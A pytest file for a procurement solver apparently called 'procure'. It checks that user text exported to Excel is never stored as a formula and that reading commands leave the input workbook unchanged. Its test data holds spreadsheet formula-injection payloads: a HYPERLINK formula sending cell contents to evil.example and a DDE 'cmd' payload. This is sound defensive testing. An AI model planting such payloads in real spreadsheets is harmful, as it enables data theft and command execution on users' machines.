"""Safe outputs: user text never becomes a formula, and reading never writes.

* Every text cell of a results workbook that came from the user is written as a string with
  Excel's quote prefix when it starts like a formula (``=``, ``+``, ``-``, ``@``, tab, CR).
  Checked three ways: openpyxl (no cell of data_type 'f'), python-calamine (the text back
  unchanged) and the sheet XML itself (no ``<f>`` element at all).
* The input workbook is byte-for-byte unchanged (sha256) after ``procure.read_workbook``,
  ``procure solve``, ``procure validate`` and ``procure export``.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

import procure
from benchmarks.generate import generate, write_xlsx
from procure.cli.main import main as cli_main

HOSTILE_PARTNERS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)"]
# tab and CR cannot start an id (validation refuses leading whitespace): they are checked on
# the writer directly, through a result table holding them (with a CR inside a formula-like
# text, a literal OOXML escape and a control character that XML cannot hold)
WHITESPACE_TEXT = ["\tx", "\rx", "\t=1+1", "\r=cmd|' /C calc'!A0", "=a\rb", "_x000D_x", "-a\x01b"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_tables() -> dict[str, pd.DataFrame]:
    p = HOSTILE_PARTNERS
    return {
        "Partners": pd.DataFrame({"partner": p, "name": ["=1+1", "+A1", "-A1", "@A1"],
                                  "country": ["=DE", "+FR", "-PL", "@EE"]}),
        "Items": pd.DataFrame({"item": ["=shell", "-radio"], "name": ["=2*3", "ok"],
                               "category": ["@ammo", "+comms"]}),
        "Suppliers": pd.DataFrame({"supplier": ["=rhm", "+nammo", "-pgz"],
                                   "name": ["=Rheinmetall", "+Nammo", "-PGZ"],
                                   "country": ["=DE", "@NO", "-PL"]}),
        "Offers": pd.DataFrame({
            "supplier": ["=rhm", "+nammo", "-pgz", "+nammo"],
            "item": ["=shell", "=shell", "=shell", "-radio"],
            "unit_price": [4000.0, 4100.0, 4500.0, 15000.0],
            "capacity": [300.0, 200.0, None, None],
            "setup_cost": [0.0, 1000.0, 0.0, 0.0],
        }),
        "Demand": pd.DataFrame({
            "partner": [p[0], p[1], p[2], p[3], p[0], p[3]],
            "item": ["=shell", "=shell", "=shell", "=shell", "-radio", "-radio"],
            "period": ["+2026", "+2026", "-1", "+2026", "-1", "-1"],
            "quantity": [100.0, 120.0, 80.0, 150.0, 5.0, 7.0],
        }),
        "Blocs": pd.DataFrame({"bloc": ["=EU", "=EU"], "country": ["=DE", "-PL"]}),
        "Rules": pd.DataFrame([
            dict(rule="min_share", partner=p[1], item="@ammo", group="=EU", share=0.5,
                 name='=HYPERLINK("http://evil.example","rule")'),
            dict(rule="max_share", partner=None, item=None, group="each_supplier", share=0.9,
                 name="@rule"),
            dict(rule="ban", partner=p[2], item="=shell", group="+nammo", name="-ban"),
        ]),
        "Settings": pd.DataFrame({"key": ["currency"], "value": ["=EUR"]}),
    }


def _sheet_xml_has_formula(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist()
                if n.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", z.read(n))]


def assert_no_formulas(path: Path) -> dict[str, list[list]]:
    """No formula anywhere; returns {sheet: rows} as python-calamine reads them."""
    assert _sheet_xml_has_formula(path) == []
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
    cwb = CalamineWorkbook.from_path(str(path))
    return {name: cwb.get_sheet_by_name(name).to_python() for name in cwb.sheet_names}


def openpyxl_rows(path: Path) -> dict[str, list[tuple]]:
    """Rows as openpyxl reads them, OOXML's _xHHHH_ escapes decoded (openpyxl leaves them)."""
    wb = openpyxl.load_workbook(path)
    return {ws.title: [tuple(unescape(v) if isinstance(v, str) else v for v in r)
                       for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets}


def column(rows: list, name: str) -> list:
    header = list(rows[0])
    j = header.index(name)
    return [r[j] for r in rows[1:]]


def test_hostile_ids_never_become_formulas(tmp_path):
    data = procure.validate_tables(hostile_tables())
    assert list(data.partners["partner"]) == HOSTILE_PARTNERS  # ids kept exactly
    result = procure.solve(data)
    assert result.status == procure.Status.OPTIMAL, result.message
    assert set(result.allocation["partner"]) == set(HOSTILE_PARTNERS)
    path = tmp_path / "results.xlsx"
    result.to_excel(path)

    calamine = assert_no_formulas(path)
    opx = openpyxl_rows(path)
    for rows in (calamine, opx):
        alloc = rows["Allocation"]
        for col in ("partner", "item", "supplier", "supplier_country", "period"):
            assert column(alloc, col) == list(result.allocation[col]), col
        assert column(rows["PartnerCosts"], "partner") == HOSTILE_PARTNERS
        assert column(rows["Rules"], "name") == list(result.rules["name"])
        assert column(rows["Rules"], "group") == [
            None if pd.isna(g) else g for g in result.rules["group"]]
        summary = dict((r[0], r[1]) for r in rows["Summary"][1:])
        assert summary["currency"] == "=EUR"
    # the hostile texts really went through
    texts = {v for rows in calamine.values() for r in rows for v in r if isinstance(v, str)}
    assert set(HOSTILE_PARTNERS) <= texts
    assert {'=HYPERLINK("http://evil.example","rule")', "=EUR", "+2026", "-1", "@NO"} <= texts


def test_whitespace_led_text_is_refused_as_an_id():
    tables = hostile_tables()
    tables["Partners"].loc[0, "partner"] = "\tx"
    with pytest.raises(procure.InputError):
        procure.validate_tables(tables)


def test_writer_escapes_tab_and_carriage_return(tmp_path):
    data = procure.validate_tables(hostile_tables())
    result = procure.solve(data)
    alloc = result.allocation.copy()
    hostile = (WHITESPACE_TEXT * len(alloc))[:len(alloc)]
    alloc["partner"] = hostile
    rules = result.rules.copy()
    rules["name"] = (WHITESPACE_TEXT * len(rules))[:len(rules)]
    edited = dataclasses.replace(result, allocation=alloc, rules=rules,
                                 warnings=tuple(WHITESPACE_TEXT))
    path = tmp_path / "results.xlsx"
    edited.to_excel(path)
    calamine = assert_no_formulas(path)
    opx = openpyxl_rows(path)
    for rows in (calamine, opx):
        assert column(rows["Allocation"], "partner") == hostile
        assert column(rows["Rules"], "name") == list(rules["name"])
        warnings = [r[1] for r in rows["Summary"][1:] if r[0] == "warning"]
        assert warnings == WHITESPACE_TEXT


def test_diagnosis_sheet_is_safe(tmp_path):
    tables = hostile_tables()
    tables["Offers"]["capacity"] = 10.0  # far too little: infeasible
    data = procure.validate_tables(tables)
    result = procure.solve(data)
    assert result.status == procure.Status.INFEASIBLE
    path = tmp_path / "infeasible.xlsx"
    result.to_excel(path)
    calamine = assert_no_formulas(path)
    assert "Diagnosis" in calamine
    table = result.diagnosis.table()
    for rows in (calamine, openpyxl_rows(path)):
        for col in ("subject", "message"):
            assert column(rows["Diagnosis"], col) == list(table[col]), col
    messages = column(calamine["Diagnosis"], "message")
    assert any(m.startswith(HOSTILE_PARTNERS[0]) for m in messages)  # "=HYPERLINK(..." as text


# --------------------------------------------------------------------------- reading never writes


def _digest(path: Path) -> tuple[str, int]:
    return hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns


@pytest.fixture()
def workbook(tmp_path):
    tables = generate(partners=2, items=3, offers_per_item=3, periods=2, rule_density=1.0,
                      tiers=True, setup=True, seed=4)
    return write_xlsx(tables, tmp_path / "input.xlsx")


def test_reading_never_writes(workbook, tmp_path, capsys):
    before = _digest(workbook)
    data = procure.read_workbook(workbook)
    assert _digest(workbook) == before
    procure.solve(data)
    assert _digest(workbook) == before

    assert cli_main(["solve", str(workbook), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["status"] == "optimal"
    assert _digest(workbook) == before
    out = tmp_path / "results.xlsx"
    assert cli_main(["solve", str(workbook), "--out", str(out)]) == 0
    assert out.exists() and _digest(workbook) == before
    assert cli_main(["validate", str(workbook)]) == 0
    assert cli_main(["validate", str(workbook), "--json"]) == 0
    assert _digest(workbook) == before
    assert cli_main(["export", str(workbook), "--lp", str(tmp_path / "m.lp")]) == 0
    assert cli_main(["export", str(workbook), "--mps", str(tmp_path / "m.mps")]) == 0
    assert _digest(workbook) == before
    # nothing new next to the input (no lock files, no caches)
    assert sorted(p.name for p in workbook.parent.iterdir()) == sorted(
        ["input.xlsx", "results.xlsx", "m.lp", "m.mps"])


def test_loading_the_demo_never_writes():
    from importlib import resources

    ref = resources.files("procure.datasets").joinpath("demo.xlsx")
    with resources.as_file(ref) as path:
        before = _digest(Path(path))
        procure.datasets.load_demo()
        assert _digest(Path(path)) == before
